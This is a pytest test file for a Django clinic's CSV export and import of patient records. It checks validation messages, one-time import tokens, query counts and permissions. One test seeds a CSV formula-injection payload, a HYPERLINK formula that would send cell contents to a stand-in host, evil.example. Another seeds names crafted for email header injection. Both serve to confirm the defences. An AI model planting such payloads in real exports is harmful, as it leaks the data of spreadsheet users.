"""Patients out to a CSV file and in again: what is shown first, and what is imported then."""

from __future__ import annotations

from datetime import date, timedelta
from html import unescape
from typing import Any

import pytest
import time_machine
from django.contrib.admin.models import ADDITION, CHANGE, LogEntry
from django.contrib.auth.models import Permission
from django.contrib.contenttypes.models import ContentType
from django.test import Client
from pytest_django import DjangoAssertNumQueries

from accounts.models import Patient, PatientAccess, User
from accounts.sheets import kept
from docspot.tests.cast import NOW, make_user, patient_of
from docspot.tests.desk import (
    choose_file,
    confirm_file,
    counts_of,
    export,
    import_file,
    list_url,
    page_url,
    refusals_of,
)
from docspot.tests.fixtures import browser_of

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("clock")]

HEAD = "id,name,date_of_birth,phone,email\n"
ASHA = ",Asha Rao,1980-03-31,+91 98765 43210,asha@clinic.example\n"
GONE = "This file was imported already, or was chosen over an hour ago. Choose it again."
CHANGED = "Something was changed in the clinic's book since this file was checked."


@pytest.fixture
def desk(staff: User) -> Client:
    return browser_of(staff)


def make_patient(name: str = "Asha Rao", **fields: Any) -> Patient:
    return Patient.objects.create(name=name, **fields)


def known(patient: Patient) -> tuple[Any, ...]:
    patient.refresh_from_db()
    return patient.name, patient.date_of_birth, str(patient.phone), patient.email


def everybody() -> list[str]:
    return sorted(Patient.objects.values_list("name", flat=True))


def allow(*codenames: str) -> Client:
    user = make_user(is_staff=True)
    user.user_permissions.set(Permission.objects.filter(codename__in=codenames))
    return browser_of(user)


# Out


def test_export_writes_what_is_known(desk: Client) -> None:
    asha = make_patient(
        date_of_birth=date(1980, 3, 31), phone="+919876543210", email="asha@clinic.example"
    )
    assert export(desk, Patient) == (
        '\ufeff"id","name","date_of_birth","phone","email"\r\n'
        f'"{asha.pk}","Asha Rao","1980-03-31","\'+919876543210","asha@clinic.example"\r\n'
    )


def test_export_keeps_search_filters_and_order(desk: Client, person: User) -> None:
    make_patient("Asha Bell")
    make_patient("Ravi Rao")
    own = patient_of(person).pk
    assert export(desk, Patient, "?q=asha").count("\r\n") == 3
    assert f'"{own}","Asha Rao"' in export(desk, Patient, "?accesses__relation__exact=self")
    assert export(desk, Patient, "?accesses__relation__exact=self").count("\r\n") == 2
    names = [line.split(",")[1] for line in export(desk, Patient, "?o=-0").splitlines()]
    assert names[1:] == ['"Ravi Rao"', '"Asha Rao"', '"Asha Bell"']


def test_export_of_an_unknown_filter_is_a_bad_request(desk: Client) -> None:
    assert desk.get(page_url(Patient, "export") + "?created_at__exact=x").status_code == 400


def test_export_neutralises_formulas(desk: Client) -> None:
    make_patient('=HYPERLINK("http://evil.example?"&A1,"Asha")')
    assert '"\'=HYPERLINK(""http://evil.example?""&A1,""Asha"")"' in export(desk, Patient)


def test_export_asks_the_same_for_one_and_three_rows(
    desk: Client, django_assert_num_queries: DjangoAssertNumQueries
) -> None:
    make_patient(phone="+919876543210")
    export(desk, Patient)
    with django_assert_num_queries(6):
        export(desk, Patient)
    make_patient("Ravi Rao")
    make_patient("Sita Rao")
    with django_assert_num_queries(6):
        export(desk, Patient)


def test_exported_file_changes_nothing(desk: Client, person: User) -> None:
    for name in ("=1+1", "'=x", 'O\'Hara, "Pat"', "two  spaces", "José; Ñ", "-"):
        make_patient(name, date_of_birth=date(1980, 3, 31), phone="+919876543210")
    page = choose_file(desk, Patient, export(desk, Patient))
    assert (page.status_code, counts_of(page), page.context["token"]) == (200, (0, 0, 0, 7), "")
    assert "there is nothing to import" in page.content.decode()


# What is shown first


def test_page_tells_the_columns_and_offers_an_empty_file(desk: Client) -> None:
    page = desk.get(page_url(Patient, "import"))
    assert [column.name for column in page.context["sheet"].columns] == HEAD.strip().split(",")
    assert page_url(Patient, "import_empty") in page.content.decode()
    empty: Any = desk.get(page_url(Patient, "import_empty"))
    assert empty["Content-Disposition"] == 'attachment; filename="patients-empty.csv"'
    data = b"".join(empty.streaming_content)
    assert data.decode("utf-8-sig") == '"id","name","date_of_birth","phone","email"\r\n'
    page = choose_file(desk, Patient, data)
    assert page.context["error"] == "There is no line below the names of the columns."


def test_preview_changes_nothing(desk: Client) -> None:
    ravi = make_patient("Ravi Rao")
    page = choose_file(desk, Patient, HEAD + ASHA + f"{ravi.pk},Ravi,1990-01-02,,\n")
    assert (page.status_code, counts_of(page)) == (200, (1, 1, 0, 0))
    assert page.context["changes"] == [
        {"line": 3, "name": "Ravi", "what": "full name, date of birth"}
    ]
    assert "Import 2 rows" in page.content.decode()
    assert everybody() == ["Ravi Rao"]


@pytest.mark.parametrize(
    ("line", "refusals"),
    [
        (",Asha,,,,x", [(2, "", "This line has 6 cells for 5 columns.")]),
        (", ,1980-03-31,,", [(2, "name", "Write the full name.")]),
        (
            f",{'x' * 255},,,",
            [(2, "name", "Ensure this value has at most 254 characters (it has 255).")],
        ),
        (",Asha,31/2/1980,,", [(2, "date_of_birth", "Write a date like 2026-03-31 or 31/3/2026.")]),
        (",Asha,3.5.80,,", [(2, "date_of_birth", "Write a date like 2026-03-31 or 31/3/2026.")]),
        (",Asha,2030-01-01,,", [(2, "date_of_birth", "Enter a date of birth in the past.")]),
        (",Asha,1800-01-01,,", [(2, "date_of_birth", "Check the year of the date of birth.")]),
        (
            ",Asha,,98765,",
            [(2, "phone", "Write a phone number with its country code, like +91 98765 43210.")],
        ),
        (
            ",Asha,,9.19877E+11,",
            [(2, "phone", "Write a phone number with its country code, like +91 98765 43210.")],
        ),
        (",Asha,,,asha", [(2, "email", "Enter a valid email address.")]),
        ("x,Asha,,,", [(2, "id", "Write a whole number.")]),
        (f"{'9' * 30},Asha,,,", [(2, "id", "Write a whole number.")]),
        (
            "987654,Asha,,,",
            [(2, "id", "There is no patient with this id. Leave it empty for somebody new.")],
        ),
        (
            ",,32/1/1980,1,",
            [
                (2, "name", "Write the full name."),
                (2, "date_of_birth", "Write a date like 2026-03-31 or 31/3/2026."),
                (2, "phone", "Write a phone number with its country code, like +91 98765 43210."),
            ],
        ),
    ],
)
def test_line_is_refused(desk: Client, line: str, refusals: list[tuple[int, str, str]]) -> None:
    page = choose_file(desk, Patient, f"{HEAD}{line}\n{ASHA}")
    assert refusals_of(page) == refusals
    assert counts_of(page) == (1, 0, 0, 0)
    text = page.content.decode()
    assert "<title>Error: Import from CSV: patients" in text
    assert "1 line was refused, so nothing is imported" in text
    assert everybody() == []


def test_lines_about_the_same_are_refused(desk: Client) -> None:
    ravi = make_patient("Ravi Rao")
    data = HEAD + ASHA + f"{ravi.pk},Ravi,,,\n" + ASHA + f"{ravi.pk},Ravi R,,,\n"
    assert refusals_of(choose_file(desk, Patient, data)) == [
        (4, "name", "Line 2 is about the same. Remove one of the two."),
        (5, "id", "Line 3 is about the same. Remove one of the two."),
    ]


def test_address_of_a_login_is_refused(desk: Client, person: User) -> None:
    """Of somebody new, or if it is given anew; whatever its case."""
    text = "This is the address of a login. Leave it empty: who has a login gets their mails by it."
    old = make_patient("Old Entry", email="ASHA@example.com")
    ravi = make_patient("Ravi Rao")
    data = (
        f"{HEAD},Asha,,,Asha@Example.com\n"
        f"{ravi.pk},Ravi,,,asha@example.com\n"
        f"{old.pk},Old,,,ASHA@example.com\n"
    )
    assert refusals_of(choose_file(desk, Patient, data)) == [(2, "email", text), (3, "email", text)]


def test_namesake_is_pointed_out(desk: Client) -> None:
    old = make_patient(date_of_birth=date(1980, 3, 31))
    make_patient("Asha Rao")
    nameless = make_patient("Sita Rao")
    data = HEAD + ",ASHA  rao,31/3/1980,,\n,Asha Rao,1980-04-01,,\n,Sita Rao,,,\n"
    page = choose_file(desk, Patient, data)
    assert page.context["remarks"] == [
        f"Line 2: ASHA rao, born on 31 Mar 1980, is there already (id {old.pk}).",
        f"Line 4: Sita Rao, without a date of birth, is there already (id {nameless.pk}).",
    ]
    assert counts_of(page) == (3, 0, 0, 0)


@pytest.mark.parametrize(
    ("data", "text"),
    [
        ("", "The file is empty."),
        ("id,name\n1,x\n", "Missing: date_of_birth, phone, email."),
        (HEAD.strip() + ",is_staff\n,x,,,,1\n", "Not known here: is_staff."),
        ((HEAD + ",José,,,\n").encode("latin-1"), "The file is not written in UTF-8: see line 2."),
        (b"PK\x03\x04\x14\0\x06\0", "This is an Excel file."),
        (HEAD + ",x\0,,,\n", "The file has NUL characters in it"),
        (HEAD + ",Asha,,,\n" * 100_000, "The file has more than 20,000 lines."),
        (b"x" * (5 * 1024 * 1024 + 1), "The file is larger than 5 MB."),
    ],
    ids=range(8),
)
def test_file_is_refused(desk: Client, data: str | bytes, text: str) -> None:
    page = choose_file(desk, Patient, data)
    assert (page.status_code, text in page.context["error"]) == (400, True)
    assert 'aria-describedby="file-error' in page.content.decode()
    assert everybody() == []


def test_no_file_is_refused(desk: Client) -> None:
    page = desk.post(page_url(Patient, "import"))
    assert (page.status_code, page.context["error"]) == (400, "Choose a file.")


# What is imported then


def test_import_adds_and_changes(desk: Client, staff: User) -> None:
    ravi = make_patient("Ravi Rao", phone="+919876543210", email="ravi@clinic.example")
    same = make_patient("Sita Rao")
    data = HEAD + ASHA + f"{ravi.pk}, Ravi  R. ,2/1/1990,,\n{same.pk},Sita Rao,,,\n"
    assert import_file(desk, Patient, data) == (
        "list.csv: 1 added, 1 changed, 1 left as they were."
    )
    asha = Patient.objects.get(name="Asha Rao")
    assert known(asha) == (
        "Asha Rao",
        date(1980, 3, 31),
        "+919876543210",
        "asha@clinic.example",
    )
    assert known(ravi) == ("Ravi R.", date(1990, 1, 2), "", "")
    assert (asha.created_at, User.objects.count(), PatientAccess.objects.count()) == (NOW, 1, 0)
    log = LogEntry.objects.order_by("action_flag").values_list(
        "user", "object_id", "action_flag", "change_message"
    )
    assert list(log) == [
        (staff.pk, str(asha.pk), ADDITION, "Imported from list.csv."),
        (staff.pk, str(ravi.pk), CHANGE, "Imported from list.csv."),
    ]


def test_import_keeps_a_formula_as_the_text_it_is(desk: Client) -> None:
    import_file(desk, Patient, HEAD + ",'=1+1,,'+91 98765 43210,\n,=2+2,,,\n")
    assert everybody() == ["=1+1", "=2+2"]
    assert '"\'=1+1"' in export(desk, Patient)


@pytest.mark.parametrize("name", ["Eve\u2028Bcc: x", "Eve\u202e Bcc: x", '"Eve\nBcc: x"'])
def test_import_keeps_a_name_on_one_line(desk: Client, name: str) -> None:
    import_file(desk, Patient, f"{HEAD},{name},,,\n")
    assert everybody() == ["Eve Bcc: x"]


def test_file_is_imported_once(desk: Client) -> None:
    page = choose_file(desk, Patient, HEAD + ASHA)
    assert confirm_file(desk, Patient, page).status_code == 302
    again = confirm_file(desk, Patient, page)
    assert (again.status_code, again.context["error"]) == (409, GONE)
    assert everybody() == ["Asha Rao"]


def test_what_is_imported_is_what_was_shown(desk: Client) -> None:
    """Another file, chosen in between, does not take its place."""
    page = choose_file(desk, Patient, HEAD + ASHA)
    choose_file(desk, Patient, HEAD + ",Mallory,,,\n")
    confirm_file(desk, Patient, page)
    assert everybody() == ["Asha Rao"]


def test_file_is_kept_for_an_hour(desk: Client, clock: time_machine.Traveller) -> None:
    page = choose_file(desk, Patient, HEAD + ASHA)
    clock.shift(timedelta(hours=1, seconds=1))
    assert confirm_file(desk, Patient, page).status_code == 409
    assert everybody() == []


def test_file_is_given_up_to_one_of_several_who_ask() -> None:
    token = kept.keep("1:x", kept.Kept(b"data", "list.csv", "digest"))
    assert kept.find("1:x", token) == kept.Kept(b"data", "list.csv", "digest")
    assert [kept.take("1:x", token) for _ in range(3)] == [True, False, False]


@pytest.mark.parametrize("token", ["", "x", "x" * 32, "x" * 1000, "\x00", "é" * 32])
def test_unknown_token_imports_nothing(desk: Client, token: str) -> None:
    page = desk.post(page_url(Patient, "import"), {"token": token})
    assert (page.status_code, page.context["error"]) == (409, GONE)


def test_token_of_somebody_else_imports_nothing(desk: Client) -> None:
    page = choose_file(desk, Patient, HEAD + ASHA)
    other = allow("view_patient", "add_patient", "change_patient")
    assert confirm_file(other, Patient, page).status_code == 409
    assert everybody() == []


def test_import_after_a_change_shows_the_file_again(desk: Client) -> None:
    ravi = make_patient("Ravi Rao")
    page = choose_file(desk, Patient, HEAD + ASHA + f"{ravi.pk},Ravi Rao,,,ravi@clinic.example\n")
    Patient.objects.filter(pk=ravi.pk).update(email="new@clinic.example")
    page = confirm_file(desk, Patient, page)
    assert (page.status_code, CHANGED in unescape(page.content.decode())) == (409, True)
    assert known(ravi) == ("Ravi Rao", None, "", "new@clinic.example")
    assert everybody() == ["Ravi Rao"]
    assert confirm_file(desk, Patient, page).status_code == 302
    assert known(ravi) == ("Ravi Rao", None, "", "ravi@clinic.example")


def test_import_checks_all_rules_again(desk: Client) -> None:
    page = choose_file(desk, Patient, HEAD + ASHA)
    make_user("asha@clinic.example")
    page = confirm_file(desk, Patient, page)
    assert (page.status_code, page.context["token"]) == (409, "")
    assert everybody() == []


@pytest.mark.parametrize("rows", [1, 3])
def test_import_asks_the_same_for_one_and_three_rows(
    desk: Client, rows: int, django_assert_num_queries: DjangoAssertNumQueries
) -> None:
    there = [make_patient(f"There {number}") for number in range(rows)]
    data = HEAD + "".join(
        f",New {number},,,n{number}@clinic.example\n{row.pk},Other {number},,,\n"
        for number, row in enumerate(there)
    )
    ContentType.objects.get_for_model(Patient)  # which Django remembers
    with django_assert_num_queries(6):
        page = choose_file(desk, Patient, data)
    with django_assert_num_queries(14):
        confirm_file(desk, Patient, page)
    assert Patient.objects.count() == 2 * rows


def test_many_are_imported_in_batches(
    desk: Client,
    django_assert_num_queries: DjangoAssertNumQueries,
    django_assert_max_num_queries: DjangoAssertNumQueries,
) -> None:
    """Of 500, for namesakes; to add and to log of 142 or more, as the database takes them."""
    data = HEAD + "".join(f",Person {number},1980-03-31,,\n" for number in range(2000))
    with django_assert_num_queries(7):
        page = choose_file(desk, Patient, data)
    assert counts_of(page) == (2000, 0, 0, 0)
    with django_assert_max_num_queries(40):
        confirm_file(desk, Patient, page)
    assert Patient.objects.count() == 2000


# Who may


@pytest.mark.parametrize(
    ("codenames", "answers"),
    [
        (("view_patient",), (200, 403, 403)),
        (("change_patient",), (200, 403, 403)),
        (("add_patient",), (403, 403, 403)),
        (("add_patient", "change_patient"), (200, 200, 200)),
        (("view_doctor",), (403, 403, 403)),
    ],
)
def test_pages_are_for_those_who_may(codenames: tuple[str, ...], answers: tuple[int, ...]) -> None:
    client = allow(*codenames)
    pages = ("export", "import", "import_empty")
    assert tuple(client.get(page_url(Patient, page)).status_code for page in pages) == answers


def test_import_is_refused_to_those_who_may_not() -> None:
    client = allow("view_patient", "add_patient")
    assert choose_file(client, Patient, HEAD + ASHA).status_code == 403
    assert client.post(page_url(Patient, "import"), {"token": "x" * 32}).status_code == 403
    page = client.get(list_url(Patient)).content.decode()
    assert ("Export as CSV" in page, "Import from CSV" in page) == (True, False)


@pytest.mark.parametrize("page", ["export", "import_empty"])
def test_files_are_only_read(desk: Client, page: str) -> None:
    assert desk.post(page_url(Patient, page)).status_code == 405
